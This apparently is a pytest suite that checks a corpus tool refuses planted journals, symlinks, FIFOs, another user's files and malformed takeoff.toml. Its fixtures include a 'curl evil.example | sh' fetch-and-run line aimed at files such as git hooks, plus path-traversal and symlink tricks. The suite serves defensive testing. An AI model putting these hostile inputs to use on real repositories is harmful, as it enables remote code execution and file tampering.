"""Trust: a map you clone or find in a shared folder can never act on your files.

The state the tool keeps and finds (the journal, the load cache, ``takeoff.toml``, the lock,
who owns the corpus) is checked as data that may be hostile: planted state is refused, by
name, and changes nothing. Tests run as root here; other users are played by ``os.chown``
to an unused uid inside a private temporary folder.
"""
import hashlib
import json
import os
import stat
import threading
from pathlib import Path

import pytest

from conftest import write_node
from graph import store

OTHER_UID = 54321
needs_root = pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0,
                                reason="playing another user needs chown (root)")


def tree(folder):
    """Every file below ``folder`` with its bytes, links as their targets; the lock and the
    load cache aside (neither is part of what a refusal must keep)."""
    out = {}
    for path in sorted(Path(folder).rglob("*")):
        rel = str(path.relative_to(folder))
        if path.name == store.LOCK_NAME or rel.startswith(".takeoff/cache") \
                or rel == ".takeoff/.gitignore":
            continue
        if path.is_symlink():
            out[rel] = ("link", os.readlink(path))
        elif path.is_file():
            out[rel] = path.read_bytes()
    return out


def plant(root, writes=(), deletes=(), state="commit", txid="0123456789abcdef"):
    """Plant a journal, as a map repository or another user could: ``writes`` is
    ``[(target rel, text)]`` (each text staged as the tool names temporaries, with its size
    and checksum recorded), ``deletes`` ``[target rel]``. Returns the journal's path."""
    entries, dels = [], []
    for rel, text in writes:
        data = text.encode() if isinstance(text, str) else text
        folder, name = os.path.split(rel)
        temp = os.path.join(folder, f".{name}.{txid}.new.tmp")
        (root / temp).parent.mkdir(parents=True, exist_ok=True)
        (root / temp).write_bytes(data)
        entries.append([rel, temp, len(data), hashlib.sha256(data).hexdigest()])
    for rel in deletes:
        folder, name = os.path.split(rel)
        marker = os.path.join(folder, f".{name}.{txid}.del.tmp")
        (root / marker).parent.mkdir(parents=True, exist_ok=True)
        (root / marker).write_bytes(b"")
        dels.append([rel, marker])
    journal = store.journal_path(root)
    journal.parent.mkdir(parents=True, exist_ok=True)
    journal.write_text(json.dumps({"version": store.JOURNAL_VERSION, "state": state,
                                   "writes": entries, "deletes": dels, "dirs": []}))
    return journal


def refused_by_every_command(run, root, journal, *, why=None):
    before = tree(root.parent)
    for args in (["list"], ["check"], ["set", "m1", "title", "Changed"]):
        result = run(root, *args)
        assert result.exit_code == 1, (args, result.output)
        assert "Traceback" not in result.output
        assert "not a journal this tool wrote" in result.stderr, result.stderr
        assert f"rm {os.path.relpath(journal)}" in result.stderr or str(journal) in result.stderr
        if why:
            assert why in result.stderr, result.stderr
        assert tree(root.parent) == before, args


# ---- item 1: a journal is a claim to check, never an order --------------------------------

@pytest.mark.parametrize("target", ["takeoff.toml", "build.sh", ".git/hooks/post-checkout",
                                    ".git/HEAD", "notes.txt", "README.md", "sub/.hidden/x.md",
                                    ".takeoff/txn/last.json", "perspectives/x/y.yaml"])
def test_a_planted_journal_writing_outside_the_node_layout_is_refused(small_corpus, run, target):
    root = small_corpus
    (root / "takeoff.toml").write_text('title = "mine"\n')
    (root / "build.sh").write_text("make\n")
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    journal = plant(root, writes=[(target, "curl evil.example | sh\n")])
    refused_by_every_command(run, root, journal, why="not a node or perspective file")
    assert (root / "takeoff.toml").read_text() == 'title = "mine"\n'


@pytest.mark.parametrize("target", [".git/HEAD", ".git/index", "notes.txt", "takeoff.toml",
                                    "secret.key"])
def test_a_planted_journal_deleting_outside_the_node_layout_is_refused(small_corpus, run, target):
    root = small_corpus
    for name in (".git/HEAD", ".git/index", "notes.txt", "takeoff.toml", "secret.key"):
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text("# keep\n")
    journal = plant(root, deletes=[target])
    refused_by_every_command(run, root, journal)
    assert (root / target).read_text() == "# keep\n"


def test_a_planted_journal_cannot_reach_outside_the_corpus(small_corpus, run):
    root = small_corpus
    (root.parent / "outside.md").write_text("keep\n")
    journal = plant(root, writes=[("../outside.md", "evil\n")])
    refused_by_every_command(run, root, journal)


def test_a_staged_text_that_is_not_what_the_journal_recorded_is_refused(small_corpus, run):
    root = small_corpus
    journal = plant(root, writes=[("m1.md", "---\nkind: model\ntitle: Recorded\n---\n")])
    staged = next(root.glob(".m1.md.*.new.tmp"))
    staged.write_text("---\nkind: model\ntitle: Swapped, same siz\n---\n"[:staged.stat().st_size])
    refused_by_every_command(run, root, journal, why="checksum")
    staged.write_text("---\nkind: model\ntitle: Longer than recorded\n---\n")
    refused_by_every_command(run, root, journal, why="bytes")


def test_a_temporary_not_named_as_the_tool_names_them_is_refused(small_corpus, run):
    root = small_corpus
    journal = plant(root, writes=[("m1.md", "---\nkind: model\ntitle: X\n---\n")])
    data = json.loads(journal.read_text())
    (root / "payload").write_text("---\nkind: model\ntitle: X\n---\n")
    data["writes"][0][1] = "payload"
    journal.write_text(json.dumps(data))
    refused_by_every_command(run, root, journal, why="not named as takeoff names")


def test_links_in_a_journal_are_never_followed(small_corpus, run, tmp_path):
    root = small_corpus
    # A staged temporary that is a link to a file holding exactly the recorded text.
    text = "---\nkind: model\ntitle: Through a link\n---\n"
    journal = plant(root, writes=[("m1.md", text)])
    staged = next(root.glob(".m1.md.*.new.tmp"))
    staged.unlink()
    (tmp_path / "elsewhere.txt").write_text(text)
    staged.symlink_to(tmp_path / "elsewhere.txt")
    refused_by_every_command(run, root, journal, why="symbolic link")
    # A folder on the way to a target that is a link out of the corpus.
    for path in root.glob(".*.tmp"):
        path.unlink()
    (tmp_path / "away").mkdir()
    (root / "sub").symlink_to(tmp_path / "away", target_is_directory=True)
    journal = plant(root, writes=[("sub/x.md", text)])
    refused_by_every_command(run, root, journal, why="symbolic link")
    assert not (tmp_path / "away" / "x.md").exists()
    # The journal itself a link to a well-formed journal kept elsewhere.
    (root / "sub").unlink()
    for path in root.glob(".*.tmp"):
        path.unlink()
    journal = plant(root, writes=[("m1.md", text)])
    (tmp_path / "journal.json").write_text(journal.read_text())
    journal.unlink()
    journal.symlink_to(tmp_path / "journal.json")
    refused_by_every_command(run, root, journal, why="symbolic link")


@needs_root
def test_another_users_temporaries_or_journal_are_refused(small_corpus, run):
    root = small_corpus
    journal = plant(root, writes=[("m1.md", "---\nkind: model\ntitle: Theirs\n---\n")])
    staged = next(root.glob(".m1.md.*.new.tmp"))
    os.chown(staged, OTHER_UID, OTHER_UID)
    refused_by_every_command(run, root, journal, why=f"uid {OTHER_UID}")
    os.chown(staged, 0, 0)
    os.chown(journal, OTHER_UID, OTHER_UID)
    refused_by_every_command(run, root, journal, why=f"uid {OTHER_UID}")
    os.chown(journal, 0, 0)
    os.chown(journal.parent, OTHER_UID, OTHER_UID)
    result = run(root, "list")
    assert result.exit_code == 1 and f"uid {OTHER_UID}" in result.stderr
    os.chown(journal.parent, 0, 0)
    # Even a prepared journal (rolled back: its temporaries removed) may not remove theirs.
    journal = plant(root, writes=[("m1.md", "half")], state="prepare")
    os.chown(staged, OTHER_UID, OTHER_UID)
    refused_by_every_command(run, root, journal, why=f"uid {OTHER_UID}")
    assert staged.exists()


def test_a_journal_the_tool_wrote_is_still_finished(small_corpus, run):
    """The checks refuse only what the tool could not have written."""
    root = small_corpus
    journal = plant(root, writes=[("m1.md", "---\nkind: model\ntitle: Rolled forward\n---\n")],
                    deletes=["c2.md"])
    text = (root / "c1.md").read_text()
    (root / "c1.md").write_text(text.replace("  - target: m1\n    weight: 0.8\n    note: because\n",
                                             "  - target: m1\n"))
    result = run(root, "show", "m1")
    assert result.exit_code == 0, result.output
    assert "Rolled forward" in result.output
    assert not journal.exists() and not (root / "c2.md").exists()
    assert not list(root.glob(".*.tmp"))


# ---- item 1: the rest of the state under .takeoff/ -----------------------------------------

def test_a_takeoff_folder_that_is_a_link_is_not_written_through(small_corpus, run, tmp_path):
    away = tmp_path / "away"
    away.mkdir()
    (small_corpus / ".takeoff").symlink_to(away, target_is_directory=True)
    assert run(small_corpus, "list").exit_code == 0  # reads work; nothing is cached there
    assert run(small_corpus, "score").exit_code == 0
    assert list(away.iterdir()) == []
    result = run(small_corpus, "set", "m1", "title", "New")
    assert result.exit_code == 1 and "a symbolic link" in result.stderr
    assert list(away.iterdir()) == []


def test_a_dangling_gitignore_link_in_the_state_folder_writes_nothing(small_corpus, run, tmp_path):
    (small_corpus / ".takeoff").mkdir()
    (small_corpus / ".takeoff" / ".gitignore").symlink_to(tmp_path / "created-by-takeoff")
    assert run(small_corpus, "score").exit_code == 0
    assert run(small_corpus, "set", "m1", "title", "New").exit_code == 0
    assert not (tmp_path / "created-by-takeoff").exists()


def test_a_fifo_or_a_zero_device_as_the_cache_neither_hangs_nor_exhausts(small_corpus, run):
    state = small_corpus / ".takeoff"
    state.mkdir()
    os.mkfifo(state / "cache")
    result = run(small_corpus, "list")  # would block forever on open() before
    assert result.exit_code == 0 and "m1" in result.output
    assert stat.S_ISFIFO(os.lstat(state / "cache").st_mode)  # nor replaced
    (state / "cache").unlink()
    (state / "cache").symlink_to("/dev/zero")
    result = run(small_corpus, "list")  # MemoryError before
    assert result.exit_code == 0 and "m1" in result.output
    assert os.readlink(state / "cache") == "/dev/zero"


@needs_root
def test_another_users_lock_is_refused(small_corpus, run):
    lock = small_corpus / store.LOCK_NAME
    lock.write_text("")
    os.chown(lock, OTHER_UID, OTHER_UID)
    result = run(small_corpus, "set", "m1", "title", "New")
    assert result.exit_code == 1 and f"uid {OTHER_UID}" in result.stderr


# ---- item 2: a corpus owned by someone else --------------------------------------------------

@needs_root
@pytest.mark.parametrize("what", ["folder", "marker"])
@pytest.mark.parametrize("args", [["list"], ["check"], ["score"], ["show", "m1"],
                                  ["set", "m1", "title", "Mine"]])
def test_a_corpus_another_user_owns_is_refused_for_every_command(small_corpus, run, monkeypatch,
                                                                 what, args):
    monkeypatch.delenv("TAKEOFF_SAFE_DIRECTORIES", raising=False)
    (small_corpus / "takeoff.toml").write_text('title = "theirs"\n')
    os.chown(small_corpus if what == "folder" else small_corpus / "takeoff.toml", OTHER_UID, OTHER_UID)
    before = tree(small_corpus)
    result = run(small_corpus, *args)
    assert result.exit_code == 1
    assert f"uid {OTHER_UID}" in result.stderr and "TAKEOFF_SAFE_DIRECTORIES" in result.stderr
    assert tree(small_corpus) == before and not (small_corpus / ".takeoff").exists()
    monkeypatch.setenv("TAKEOFF_SAFE_DIRECTORIES", f"/nowhere{os.pathsep}{small_corpus}")
    assert run(small_corpus, *args).exit_code == 0
    monkeypatch.setenv("TAKEOFF_SAFE_DIRECTORIES", "*")
    assert run(small_corpus, "list").exit_code == 0


@needs_root
def test_discovery_refuses_another_users_corpus_above_the_working_folder(tmp_path, monkeypatch):
    """A victim in an unmarked folder of a shared folder must not write into a corpus planted
    above it."""
    from click.testing import CliRunner

    from cli import cli

    shared = tmp_path / "shared"
    write_node(shared, "m1", "---\nkind: model\ntitle: Theirs\n---\n")
    (shared / "takeoff.toml").write_text('title = "theirs"\n')
    os.chown(shared, OTHER_UID, OTHER_UID)
    os.chown(shared / "takeoff.toml", OTHER_UID, OTHER_UID)
    mine = shared / "mine"
    mine.mkdir()
    monkeypatch.chdir(mine)
    monkeypatch.delenv("TAKEOFF_CORPUS", raising=False)
    monkeypatch.delenv("TAKEOFF_SAFE_DIRECTORIES", raising=False)
    result = CliRunner().invoke(cli, ["add", "claim", "my-claim", "--title", "Mine"])
    assert result.exit_code == 1 and "belongs to uid" in result.stderr
    assert sorted(p.name for p in shared.rglob("*.md")) == ["m1.md"]


# ---- item 3: takeoff.toml under the limits of every file -----------------------------------

@pytest.mark.parametrize("content, message", [
    (b"a = " + b"[" * 5000 + b"]" * 5000 + b"\n", "takeoff.toml:1: nested deeper than 64 levels"),
    (b'title = "caf\xe9"\n', "takeoff.toml:1: not UTF-8 text"),
    (b'title = "x"\nsemantics = [\n', "takeoff.toml:2: not valid TOML"),
    (b"a = " + b"9" * 5000 + b"\n", "takeoff.toml: not valid TOML"),
    (b'title = "' + b"x" * (11 * 1024 * 1024) + b'"\n', "over the 10 MB limit"),
])
def test_a_hostile_takeoff_toml_is_refused_with_file_and_line(small_corpus, run, content, message):
    (small_corpus / "takeoff.toml").write_bytes(content)
    for args in (["list"], ["check"]):
        result = run(small_corpus, *args)
        assert result.exit_code == 1 and "Traceback" not in result.output
        assert message in result.stderr, result.stderr


def test_a_takeoff_toml_fifo_or_link_out_is_refused(small_corpus, run, tmp_path):
    os.mkfifo(small_corpus / "takeoff.toml")
    result = run(small_corpus, "list")
    assert result.exit_code == 1 and "a FIFO" in result.stderr
    (small_corpus / "takeoff.toml").unlink()
    (tmp_path / "elsewhere.toml").write_text('title = "x"\n')
    (small_corpus / "takeoff.toml").symlink_to(tmp_path / "elsewhere.toml")
    result = run(small_corpus, "list")
    assert result.exit_code == 1 and "outside the corpus" in result.stderr


def test_a_byte_order_mark_in_takeoff_toml_is_skipped(small_corpus, run):
    (small_corpus / "takeoff.toml").write_bytes(b'\xef\xbb\xbftitle = "x"\nsemantics = "dfquad"\n')
    result = run(small_corpus, "list")
    assert result.exit_code == 0, result.output
